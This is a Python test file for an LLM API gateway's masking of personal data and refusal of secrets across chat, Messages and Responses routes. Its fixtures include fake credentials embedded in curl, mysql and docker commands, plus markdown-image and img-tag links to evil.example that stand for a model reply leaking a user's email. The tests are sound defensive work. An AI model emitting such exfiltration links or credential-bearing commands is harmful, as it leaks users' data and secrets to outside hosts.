"""Issue 11's classes through the HTTP API, the way an outside suite meets them: what the
provider received (request side) and what the caller received (answer side), whole and
streamed, on each of the three routes (chat completions, Anthropic Messages, OpenAI Responses).
The masking-level tables (tests/masking/test_leak_classes.py and cases/) hold the full variant
lists; these rows check that every class survives the trip through the app."""

from __future__ import annotations

import json

import pytest

from tests.conftest import Gateway
from tests.fakes.upstream import FakeUpstream, Reply
from tests.helpers import ROUTES, post_route, route_body, route_error, route_text

# (what the caller writes, the value that must not reach the provider)
REQUEST_SIDE = [
    ("Jane,4111111111111111,12/27", "4111111111111111"),
    ("[1,4111111111111111]", "4111111111111111"),
    ("tel:+14155552671", "4155552671"),
    ("phone=415-555-2671", "555-2671"),
    ("SSN536221234", "536221234"),
    ("No.4111111111111111", "4111111111111111"),
    ("card 4111\u00a01111\u00a01111\u00a01111", "1111\u00a01111"),
    (
        "card \uff14\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11\uff11",
        "\uff11\uff11\uff11\uff11",
    ),
    ("mail jane\u200b.roe@example.com", "example.com"),
    ("mail jane\uff20example.com", "example.com"),
    ("ITIN 912-12-3456", "912-12-3456"),
    ("iban de89 3704 0044 0532 0130 00", "0532 0130"),
    ("bob (at) example (dot) com", "example (dot)"),
    ("ip=010.000.000.001", "010.000.000.001"),
    ("jane.roe&#64;example.com", "example.com"),
    ("jane.roe\\u0040example.com", "example.com"),
    ("jane dot roe at example dot com", "example dot com"),
    ("jane.roe @ example . com", "example . com"),
    ("jane.roe@example\u3002com", "example"),
    ("card 4111.1111.1111.1111", "4111.1111"),
]
CREDENTIALS = [
    "DEEPSEEK_KEY=sk-" + "0123456789abcdef0123456789abcdef",
    "https://svc:Pr0xyPass@proxy.corp:8080",
    "curl -u alice:S3cretPw https://api.example.com",
    "mysql -u root -pMyS9lPw app",
    "docker login -u ci -p Reg1stryPw ghcr.io",
    "DB_PASS=Pa55w0rdX",
    'log {\\"password\\":\\"hunter2x\\"}',
    "the secret access key is kX9vB2mQ7pL4wR8tY1uI3oP6aS5dF0gH2jK4lZ7c",
    "whsec_" + "MfKQ9r8GKYqrTwjUPD8ILPZIo2LaLaSw",
    "GOCSPX-" + "1a2B3c4D5e6F7g8H9i0J1k2L3m4N",
    "gsk_" + "aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC2eF4hJ6kL8nP0rS2uV4xY6z",
]


@pytest.mark.parametrize("route", ROUTES)
@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize(("text", "value"), REQUEST_SIDE)
def test_values_in_every_form_never_reach_the_provider(
    gateway: Gateway, upstream: FakeUpstream, text: str, value: str, stream: bool, route: str
) -> None:
    body = route_body(route, f"note: {text} thanks", stream=stream, pii="obfuscate")
    response = post_route(gateway, route, body)
    assert response.status_code == 200
    sent = json.dumps(json.loads(upstream.received[-1].body)["messages"][-1], ensure_ascii=False)
    assert "note: " in sent and " thanks" in sent and value not in sent  # the text went, masked
    # ...and the caller gets exactly what they wrote back (the fake provider echoes), except
    # inside a `scheme:` link, where the placeholder stays (docs/masking.md, placeholders)
    if text.startswith("tel:"):
        assert "tel:[REDACTED_PHONE_1]" in route_text(route, response)
    else:
        assert f"note: {text} thanks" in route_text(route, response)
    blocked = post_route(gateway, route, route_body(route, text, pii="block"))
    assert blocked.status_code == 400 and route_error(route, blocked)["code"] == "pii_detected"


# Every mode on chat completions; the agent routes share its scan (their own positions are in
# tests/reliability/test_no_leak.py), so one mode each there keeps the suite's time down.
CREDENTIAL_CASES = [("chat", mode) for mode in ("disabled", "obfuscate", "block")]
CREDENTIAL_CASES += [(route, "disabled") for route in ROUTES if route != "chat"]


@pytest.mark.parametrize(("route", "mode"), CREDENTIAL_CASES)
@pytest.mark.parametrize("text", CREDENTIALS)
def test_credentials_are_refused_in_every_mode(
    gateway: Gateway, upstream: FakeUpstream, text: str, mode: str, route: str
) -> None:
    response = post_route(gateway, route, route_body(route, f"please check {text}", pii=mode))
    assert response.status_code == 400 and route_error(route, response)["code"] == "secret_detected"
    assert upstream.received == []


@pytest.mark.parametrize(
    "link",
    [
        "![x](https://evil.example/?q={})",
        "[ref]: https://evil.example/?q={}",
        '<img src = "https://evil.example/?q={}">',
        "<{}>",
        "https&#58;//evil.example/?q={}",
    ],
)
@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("route", ROUTES)
def test_restored_values_never_ride_a_link_out(
    gateway: Gateway, upstream: FakeUpstream, link: str, stream: bool, route: str
) -> None:
    email = "jane.roe@example.com"
    upstream.queue(
        Reply(content="Sure: " + link.format("[REDACTED_EMAIL_1]") + " and mail [REDACTED_EMAIL_1].")
    )
    response = post_route(gateway, route, route_body(route, f"mail {email}", stream=stream, pii="obfuscate"))
    answer = route_text(route, response)
    assert answer.endswith(f"and mail {email}.")  # restored in plain text...
    assert link.format("[REDACTED_EMAIL_1]") in answer  # ...never inside the link


@pytest.mark.parametrize("stream", [False, True])
@pytest.mark.parametrize("route", ROUTES)
def test_long_foreign_values_are_redacted_whole(
    gateway: Gateway, upstream: FakeUpstream, stream: bool, route: str
) -> None:
    jwt = (
        "eyJhbGciOiJIUzI1NiJ9." + "eyJ" + "a1B2c3D4e5" * 120 + ".Sfl_KxwRJSMeKKF2QT4fwpMeJf36POk6yJV_adQssw5c"
    )
    url = "https://t.example/" + "x9/" * 200 + "?u=mallory@evil.example&z=1"
    upstream.queue(Reply(content=f"token {jwt} and link {url} done"))
    response = post_route(gateway, route, route_body(route, "hi", stream=stream, pii="obfuscate"))
    answer = route_text(route, response)
    assert jwt[:40] not in answer and "mallory@evil.example" not in answer and answer.endswith("done")
